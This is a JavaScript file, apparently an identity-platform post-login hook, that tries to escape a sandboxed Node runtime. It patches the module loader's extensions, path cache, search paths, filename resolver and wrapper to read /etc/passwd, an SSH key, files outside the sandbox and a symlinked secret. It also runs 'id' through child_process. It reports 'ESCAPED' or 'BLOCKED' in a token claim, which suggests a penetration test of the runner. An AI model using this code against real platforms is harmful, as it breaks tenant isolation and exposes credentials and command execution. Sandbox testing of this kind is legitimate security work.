// caches, extensions, search paths and wrappers of the loader filled by the script
exports.onExecutePostLogin = async (event, api) => {
  const S = event.secrets;
  const out = (v) => { try { api.idToken.setCustomClaim('probe', String(v).slice(0, 400)); } catch {} };
  const found = [];
  const attempt = async (label, act) => { try { const r = await act(); if (r) found.push(label + ' ' + String(r).slice(0, 80)); } catch {} };
  const M = require('module'), fs = require('fs');
  const read = { '.js': M._extensions['.js'], '.json': M._extensions['.json'] };
  for (const ext of ['.js', '.json', '.mjs', '.cjs', '']) M._extensions[ext] = (m, f) => { m.exports = fs.readFileSync(f, 'utf8'); };
  for (const f of ['/etc/passwd', S.OUTSIDE_JSON, S.OUTSIDE_JS, S.SSH_KEY, S.NODE_MODULES + '/evil-link/secret.json']) {
    await attempt('extension ' + f, () => require(f));
    await attempt('path cache ' + f, () => { M._pathCache[f + '\x00'] = f; M._pathCache['zz\x00' + module.paths] = f; return require(f) || require('zz'); });
    await attempt('own reader ' + f, () => { const m = new M(f); read[/json/.test(f) ? '.json' : '.js'](m, f); return JSON.stringify(m.exports); });
    await attempt('load ' + f, () => { const m = new M(f); m.load(f); return JSON.stringify(m.exports); });
    await attempt('global paths ' + f, () => { M.globalPaths.push(require('path').dirname(f)); process.env.NODE_PATH = '/etc'; M._initPaths(); return require(require('path').basename(f)); });
    await attempt('file name ' + f, () => { const real = M._resolveFilename; M._resolveFilename = () => f; try { return require('zz'); } finally { M._resolveFilename = real; } });
  }
  Object.assign(M._extensions, read);
  await attempt('wrapper', () => { M.wrapper[0] = '(function (exports, require, module, __filename, __dirname) { globalThis.leaked = require; '; require('lodash/add'); return globalThis.leaked('child_process').execSync('id'); });
  await attempt('compile', () => { const m = new M('z'); m._compile('module.exports = require("child_process").execSync("id")', '/tmp/z.js'); return m.exports; });
  await attempt('runner', () => [...Object.keys(M._cache), ...Object.values(M._pathCache)].find((f) => /runner/.test(f)));
  await attempt('parent', () => { for (const m of Object.values(M._cache)) for (let p = m; p; p = p.parent) if (/runner/.test(p.filename)) return p.filename; });
  out(found.length > 0 ? 'ESCAPED:' + found.join('; ') : 'BLOCKED:nothing worked');
};
